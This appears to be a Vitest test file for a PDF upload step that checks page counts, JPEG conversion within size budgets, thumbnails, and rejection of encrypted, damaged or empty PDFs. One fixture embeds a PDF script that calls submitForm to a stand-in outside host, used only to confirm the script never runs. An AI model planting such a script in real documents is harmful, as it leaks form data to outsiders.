import { describe, expect, it, vi } from 'vitest';
import { prepareUpload, type PdfPages } from '../../src/compress/prepareUpload.ts';
import { pageToJpeg } from '../../src/pdf/pageToJpeg.ts';
import { makePdf } from '../pdfWriter.ts';
import { bytesOf, isJpeg } from './compressFixtures.ts';
import { pageOfStatement, pdfBlob, scannedStatement, textStatement } from './pdfFixtures.ts';

const BUDGET = 4_500_000;

async function codeOf(promise: Promise<unknown>): Promise<string> {
  try {
    await promise;
    return 'resolved';
  } catch (error) {
    return (error as { code?: string }).code ?? String(error);
  }
}

async function opened(file: Blob, budgetBytes = BUDGET): Promise<PdfPages> {
  const prepared = await prepareUpload(file, { budgetBytes, allowPdf: true });
  if (prepared.kind !== 'pdfPages') throw new Error(`expected the pages of an over-budget PDF, got ${prepared.kind}`);
  return prepared;
}

/** Share of dark pixels in a region of a picture, 0..1. */
async function inkIn(blob: Blob, region: { x: number; y: number; width: number; height: number }): Promise<number> {
  const bitmap = await createImageBitmap(blob);
  const scale = bitmap.width;
  const canvas = new OffscreenCanvas(64, 64);
  const ctx = canvas.getContext('2d')!;
  ctx.drawImage(bitmap, region.x * scale, region.y * scale, region.width * scale, region.height * scale, 0, 0, 64, 64);
  const data = ctx.getImageData(0, 0, 64, 64).data;
  let dark = 0;
  for (let i = 0; i < data.length; i += 4) if (data[i]! < 160) dark++;
  return dark / (64 * 64);
}

describe('a PDF within budget', () => {
  it('is sent as it is, with the first page drawn for the preview and the pages counted', async () => {
    const file = textStatement(2);
    const prepared = await prepareUpload(file, { budgetBytes: BUDGET, allowPdf: true });
    expect(prepared.kind).toBe('pdf');
    if (prepared.kind !== 'pdf') return;
    expect(prepared.pageCount).toBe(2);
    expect(prepared.blob.type).toBe('application/pdf');
    expect(await bytesOf(prepared.blob)).toEqual(await bytesOf(file));
    expect(isJpeg(await bytesOf(prepared.preview))).toBe(true);
    // The letterhead is drawn in the top left of the preview: text, not a white page.
    expect(await inkIn(prepared.preview, { x: 0.08, y: 0.07, width: 0.4, height: 0.05 })).toBeGreaterThan(0.02);
  });

  it('draws a form field from its appearance and never runs the document script', async () => {
    const alert = vi.spyOn(window, 'alert').mockImplementation(() => undefined);
    const file = pdfBlob(makePdf([{ field: 'ONA PETRAITYTE', text: ['Statement'] }], { script: "app.alert('ran'); this.submitForm('https://example.invalid/x');" }));
    const prepared = await prepareUpload(file, { budgetBytes: 10_000_000, allowPdf: true });
    expect(prepared.kind).toBe('pdf');
    if (prepared.kind !== 'pdf') return;
    // The field's rectangle is [56 120 296 144] in points on an 842-point-tall page, measured from the bottom.
    expect(await inkIn(prepared.preview, { x: 56 / 595, y: (842 - 144) / 595, width: 240 / 595, height: 24 / 595 })).toBeGreaterThan(0.03);
    expect(alert).not.toHaveBeenCalled();
    expect(performance.getEntriesByType('resource').map((entry) => entry.name).filter((url) => !url.startsWith(location.origin))).toEqual([]);
    alert.mockRestore();
  });
});

describe('a scanned statement over budget', () => {
  it('is opened for the person to pick a page, and that page becomes a legible JPEG within budget', async () => {
    const file = await scannedStatement(3, 2);
    expect(file.size).toBeGreaterThan(5_000_000);
    expect(file.size).toBeLessThan(20_000_000);
    const pdf = await opened(file);
    try {
      expect(pdf.pageCount).toBe(3);
      expect(pdf.bytes).toBe(file.size);
      const page = await pageToJpeg(pdf.document, 2, { budgetBytes: BUDGET });
      expect(isJpeg(await bytesOf(page.blob))).toBe(true);
      expect(page.bytes).toBeLessThanOrEqual(BUDGET);
      // A4 at 200 dpi.
      expect([page.width, page.height]).toEqual([1653, 2339]);
      expect(await pageOfStatement(page.blob, 3)).toBe(2);
    } finally {
      await pdf.document.close();
    }
  });

  it('fits a page into a smaller budget by the same search as photos, never below the legibility floor', async () => {
    const pdf = await opened(await scannedStatement(1, 1), 300_000);
    try {
      const roomy = await pageToJpeg(pdf.document, 1, { budgetBytes: 1_500_000 });
      expect(roomy.bytes).toBeLessThanOrEqual(1_500_000);
      expect(roomy.width).toBe(1653);
      const tight = await pageToJpeg(pdf.document, 1, { budgetBytes: 300_000 });
      expect(tight.bytes).toBeLessThanOrEqual(300_000);
      expect(tight.height).toBeGreaterThanOrEqual(1200);
    } finally {
      await pdf.document.close();
    }
  });

  it('draws small thumbnails of any page', async () => {
    const pdf = await opened(await scannedStatement(3, 1), 1_000_000);
    try {
      const thumbnail = await pdf.document.preview(3, 96);
      const bitmap = await createImageBitmap(thumbnail);
      expect(bitmap.width).toBeGreaterThanOrEqual(96);
      expect(bitmap.width).toBeLessThanOrEqual(96 * 3);
      expect(await pageOfStatement(thumbnail, 3)).toBe(3);
    } finally {
      await pdf.document.close();
    }
  });

  it('refuses a blank page, so the person picks another', async () => {
    const pdf = await opened(pdfBlob(makePdf([{ text: ['x'.repeat(40)] }, {}])), 100);
    try {
      expect(await codeOf(pageToJpeg(pdf.document, 2, { budgetBytes: 1_000_000 }))).toBe('PDF_BLANK_PAGE');
      expect((await pageToJpeg(pdf.document, 1, { budgetBytes: 1_000_000 })).width).toBe(1653);
    } finally {
      await pdf.document.close();
    }
  });
});

describe('PDFs that cannot be used', () => {
  it.each([
    ['one that needs a password', () => textStatement(1, { encrypted: true }), 'PDF_ENCRYPTED'],
    ['one cut off halfway (an interrupted download)', async () => (await scannedStatement(1, 1)).slice(0, 1_000_000), 'PDF_DAMAGED'],
    ['one that only looks like a PDF', () => new Blob(['%PDF-1.7\nthis is not a PDF at all\n%%EOF\n']), 'PDF_DAMAGED'],
    ['one without pages', () => pdfBlob(makePdf([])), 'PDF_NO_PAGES'],
  ])('refuses %s', async (_name, make, code) => {
    expect(await codeOf(prepareUpload(await make(), { budgetBytes: BUDGET, allowPdf: true }))).toBe(code);
  });
});
